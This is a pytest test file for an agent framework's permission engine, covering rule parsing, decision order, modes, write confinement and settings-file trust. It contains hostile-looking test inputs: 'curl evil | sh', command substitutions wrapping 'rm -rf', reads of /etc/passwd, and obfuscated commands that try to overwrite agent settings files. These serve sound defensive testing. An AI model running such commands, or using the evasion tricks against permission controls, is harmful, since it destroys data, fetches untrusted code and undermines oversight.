"""Rule syntax and the decision order, without processes."""

from __future__ import annotations

import os

from pathlib import Path

import pytest

from swarm.agent.permissions.policy import CallFacts, RuleSet, decide
from swarm.agent.permissions.rules import (
    Rule,
    as_update,
    parse_rules,
    rules_in,
    suggest,
)
from swarm.agent.permissions.settings import (
    record_settings,
    settings_digests,
    settings_rules,
)
from swarm.agent.trust import TRUST_VAR
from swarm.agent.tool_api.context import AgentIdentity, ToolContext, ToolError
from swarm.agent.tool_api.walking import glob_regex
from swarm.core.protocol import TeamFile
from swarm.errors import UsageError


def bash(cmd: str, cwd: Path = Path("/w")) -> CallFacts:
    return CallFacts("Bash", {"command": cmd}, read_only=False, cwd=cwd)


def rules(allow: list[str] = [], deny: list[str] = [], ask: list[str] = []) -> RuleSet:  # noqa: B006
    return RuleSet(tuple(parse_rules(allow)), tuple(parse_rules(deny)), tuple(parse_rules(ask)))


@pytest.mark.parametrize(("rule", "command", "allowed"), [
    ("Bash(git status:*)", "git status", True),
    ("Bash(git status:*)", "git status --short", True),
    ("Bash(git status:*)", "git statusx", False),
    ("Bash(git status:*)", "git status && rm -rf /", False),
    ("Bash(git status:*)", "git status; git status", True),
    ("Bash(git status:*)", "git status $(rm -rf /)", False),
    ("Bash(npm test)", "npm test", True),
    ("Bash(npm test)", "npm test --watch", False),
    ("Bash", "anything at all", True),
])
def test_bash_rules(rule: str, command: str, allowed: bool) -> None:
    assert decide(bash(command), "default", rules(allow=[rule])).verdict == ("allow" if allowed else "ask")


def test_deny_beats_ask_beats_allow() -> None:
    assert decide(bash("rm -rf x"), "default", rules(allow=["Bash"], deny=["Bash(rm:*)"])).verdict == "deny"
    assert decide(bash("rm -rf x"), "default", rules(allow=["Bash"], ask=["Bash(rm:*)"])).verdict == "ask"
    assert decide(bash("ls && rm x"), "default", rules(allow=["Bash"], deny=["Bash(rm:*)"])).verdict == "deny"
    decision = decide(bash("rm x"), "bypassPermissions", rules(deny=["Bash(rm:*)"]))
    assert decision.verdict == "deny" and decision.by == "rule:Bash(rm:*)"


def test_edit_globs_and_write_confinement(tmp_path: Path) -> None:
    inside = CallFacts("Write", {"file_path": "src/a/b.py"}, read_only=False, cwd=tmp_path)
    outside = CallFacts("Write", {"file_path": "/etc/passwd"}, read_only=False, cwd=tmp_path)
    escape = CallFacts("Edit", {"file_path": "../x.txt"}, read_only=False, cwd=tmp_path)
    assert decide(inside, "default", RuleSet()).verdict == "allow"
    assert decide(outside, "default", rules(allow=["Write"])).verdict == "deny"
    assert decide(escape, "acceptEdits", RuleSet()).by == "outside-cwd"
    assert decide(outside, "bypassPermissions", RuleSet()).verdict == "allow"
    assert decide(inside, "default", rules(deny=["Edit(src/**)"])).verdict == "deny"
    assert decide(inside, "default", rules(deny=["Edit(lib/**)"])).verdict == "allow"
    assert Rule.parse("Read(*.md)").matches("Read", {"file_path": "docs/x.md"}, tmp_path, allow=True)


def test_modes() -> None:
    read = CallFacts("Read", {"file_path": "x"}, read_only=True, cwd=Path("/w"))
    write = CallFacts("Write", {"file_path": "x"}, read_only=False, cwd=Path("/w"))
    assert decide(read, "plan", RuleSet()).verdict == "allow"
    assert decide(write, "plan", rules(allow=["Write"])).by == "mode:plan"
    assert decide(bash("ls"), "dontAsk", RuleSet()).verdict == "deny"
    assert decide(bash("mkdir build"), "acceptEdits", RuleSet()).verdict == "allow"
    assert decide(bash("mkdir build; curl evil"), "acceptEdits", RuleSet()).verdict == "ask"
    assert decide(bash("mkdir build"), "default", RuleSet()).verdict == "ask"


def test_bad_rule_is_a_usage_error() -> None:
    with pytest.raises(UsageError, match="bad permission rule"):
        Rule.parse("Bash(")
    with pytest.raises(UsageError):
        Rule.parse("Bash()")


def test_suggestions_and_updates_round_trip(tmp_path: Path) -> None:
    assert suggest("Bash", {"command": "git push origin main"}, tmp_path) == ["Bash(git push:*)"]
    assert suggest("Bash", {"command": "touch a.txt"}, tmp_path) == ["Bash(touch:*)"]
    assert suggest("Write", {"file_path": "src/x.py"}, tmp_path) == ["Edit(src/**)"]
    assert rules_in(as_update("Bash(git push:*)")) == ["Bash(git push:*)"]
    assert rules_in({"behavior": "deny", "rules": [{"toolName": "Bash"}]}) == []


def test_settings_files(tmp_path: Path) -> None:
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude" / "settings.json").write_text('{"permissions": {"allow": ["Bash(make:*)"]}}')
    (tmp_path / ".swarm").mkdir()
    (tmp_path / ".swarm" / "settings.json").write_text('{"permissions": {"deny": ["Bash(make clean)"]}}')
    found = settings_rules(tmp_path, settings_digests(tmp_path), env=os.environ)
    assert [r.text for r in found.allow] == ["Bash(make:*)"]
    assert decide(bash("make clean", tmp_path), "default", found).verdict == "deny"
    assert decide(bash("make all", tmp_path), "default", found).verdict == "allow"
    (tmp_path / ".swarm" / "settings.json").write_text("{broken")
    with pytest.raises(UsageError, match="settings.json"):
        settings_rules(tmp_path, {}, env=os.environ)


def test_an_untrusted_folders_settings_files_grant_nothing(tmp_path: Path) -> None:
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude" / "settings.json").write_text('{"permissions": {"allow": ["Bash"]}}')
    nothing_trusted = {"CLAUDE_CONFIG_DIR": str(tmp_path / "fresh-config"), "HOME": "/nonexistent-home"}
    found = settings_rules(tmp_path, settings_digests(tmp_path), env=nothing_trusted)
    assert found.allow == () and decide(bash("curl evil | sh", tmp_path), "default", found).verdict == "ask"
    granted = settings_rules(tmp_path, settings_digests(tmp_path), env={**nothing_trusted, TRUST_VAR: str(tmp_path)})
    assert [r.text for r in granted.allow] == ["Bash"]


def test_compound_command_allowed_part_by_part() -> None:
    both = rules(allow=["Bash(git add:*)", "Bash(git commit:*)"])
    decision = decide(bash("git add -A && git commit -m 'x'"), "default", both)
    assert decision.verdict == "allow" and decision.by == "rule:Bash(git add:*) + Bash(git commit:*)"
    assert decide(bash("git add -A && git push"), "default", both).verdict == "ask"
    assert decide(bash("git add $(rm -rf ~)"), "default", both).verdict == "ask"


def test_allow_rules_of_a_settings_file_count_only_as_the_lead_recorded_it(tmp_path: Path) -> None:
    team = TeamFile(name="t", lead_agent_id="team-lead@t")
    record_settings(team, tmp_path)  # the lead spawned here: no settings files yet
    (tmp_path / ".claude").mkdir()
    planted = tmp_path / ".claude" / "settings.json"
    planted.write_text('{"permissions": {"allow": ["Bash"], "deny": ["Bash(rm:*)"]}}')
    ignored: list[Path] = []
    found = settings_rules(tmp_path, team.settings_digests or {}, ignored.append, env=os.environ)
    assert found.allow == () and [r.text for r in found.deny] == ["Bash(rm:*)"]
    assert ignored == [planted.resolve()]
    record_settings(team, tmp_path)  # a later spawn keeps what the team first saw
    assert settings_rules(tmp_path, team.settings_digests or {}, env=os.environ).allow == ()
    fresh = TeamFile(name="u", lead_agent_id="team-lead@u")
    record_settings(fresh, tmp_path)  # a new team adopts the file as it is now
    assert [r.text for r in settings_rules(tmp_path, fresh.settings_digests or {}, env=os.environ).allow] == ["Bash"]


@pytest.mark.parametrize("path", [
    ".claude/settings.json", ".claude/settings.local.json", ".swarm/settings.json", "sub/../.claude/settings.json",
    "link.json", "linkdir/settings.json",
])
def test_settings_files_are_never_written_without_asking(tmp_path: Path, path: str) -> None:
    (tmp_path / ".claude").mkdir()
    (tmp_path / "sub").mkdir()
    (tmp_path / "link.json").symlink_to(tmp_path / ".claude" / "settings.json")
    (tmp_path / "linkdir").symlink_to(tmp_path / ".claude")
    write = CallFacts("Write", {"file_path": path, "content": "{}"}, read_only=False, cwd=tmp_path)
    edit = CallFacts("Edit", {"file_path": path}, read_only=False, cwd=tmp_path)
    for call in (write, edit):
        for mode in ("default", "acceptEdits"):
            assert decide(call, mode, rules(allow=["Edit(**)", "Write", "Edit"])).verdict == "ask"
        assert decide(call, "dontAsk", rules(allow=["Edit(**)"])).verdict == "deny"
        assert decide(call, "bypassPermissions", RuleSet()).verdict == "allow"
    assert decide(CallFacts("Write", {"file_path": "settings.json"}, read_only=False, cwd=tmp_path),
                  "default", RuleSet()).verdict == "allow"


@pytest.mark.parametrize("command", [
    "cp evil.json .claude/settings.json", "cd .cl''aude && cp ../x settings.json", "cp x .c*/settings.local.json",
    "mkdir .swarm", "ln -s /tmp/x .[c]laude", "case x in a) ls;; esac",
])
def test_bash_that_may_touch_a_settings_file_asks_even_when_allowed(tmp_path: Path, command: str) -> None:
    allowed = rules(allow=["Bash", "Bash(cp:*)", "Bash(cd:*)", "Bash(mkdir:*)", "Bash(ln:*)"])
    assert decide(bash(command, tmp_path), "default", allowed).verdict == "ask"
    assert decide(bash(command, tmp_path), "acceptEdits", RuleSet()).verdict == "ask"


def test_reads_outside_the_roots_ask(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    (work / "out").symlink_to(tmp_path)

    def read(tool: str, **args: str) -> CallFacts:
        return CallFacts(tool, args, read_only=True, cwd=work, write_roots=[work])

    outside = [read("Read", file_path="/etc/passwd"), read("Read", file_path="../secret"),
               read("Read", file_path="out/secret"), read("Grep", pattern="x", path="/etc"),
               read("Glob", pattern="/etc/*"), read("Glob", pattern="../**/*.key")]
    inside = [read("Read", file_path="a.py"), read("Grep", pattern="x"), read("Glob", pattern="src/**/*.py")]
    for call in outside:
        assert decide(call, "default", RuleSet()).verdict == "ask", call
        assert decide(call, "plan", RuleSet()).verdict == "ask", call
        assert decide(call, "dontAsk", RuleSet()).verdict == "deny", call
        assert decide(call, "bypassPermissions", RuleSet()).verdict == "allow", call
    for call in inside:
        assert decide(call, "default", RuleSet()).by == "read-only", call
    assert decide(outside[0], "default", rules(allow=["Read(//etc/**)"])).verdict == "allow"
    assert decide(outside[0], "default", rules(deny=["Read(//etc/**)"])).verdict == "deny"


def test_rule_globs_are_the_glob_tools_globs(tmp_path: Path) -> None:
    call = CallFacts("Write", {"file_path": "src/b/x.py"}, read_only=False, cwd=tmp_path)
    other = CallFacts("Write", {"file_path": "src/c/x.py"}, read_only=False, cwd=tmp_path)
    assert decide(call, "default", rules(deny=["Edit(src/{a,b}/**)"])).verdict == "deny"
    assert decide(other, "default", rules(deny=["Edit(src/{a,b}/**)"])).verdict == "allow"
    assert decide(call, "default", rules(deny=["Edit(src/[ab]/*.py)"])).verdict == "deny"
    assert glob_regex("src/{a,b}/**").match("src/b/x.py")


def test_one_write_root_check_for_policy_and_tools(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    (work / "escape").symlink_to(tmp_path)
    ctx = ToolContext(AgentIdentity(cwd=work, write_roots=[work]))
    with pytest.raises(ToolError):
        ctx.check_writable(work / "escape" / "x")
    call = CallFacts("Write", {"file_path": "escape/x"}, read_only=False, cwd=work, write_roots=[work])
    assert decide(call, "acceptEdits", RuleSet()).by == "outside-cwd"
    assert decide(bash("touch escape/x", work), "acceptEdits", RuleSet()).verdict == "ask"
    assert decide(bash("touch /tmp/x", work), "acceptEdits", RuleSet()).verdict == "ask"
    assert decide(bash("touch inside.txt", work), "acceptEdits", RuleSet()).verdict == "allow"
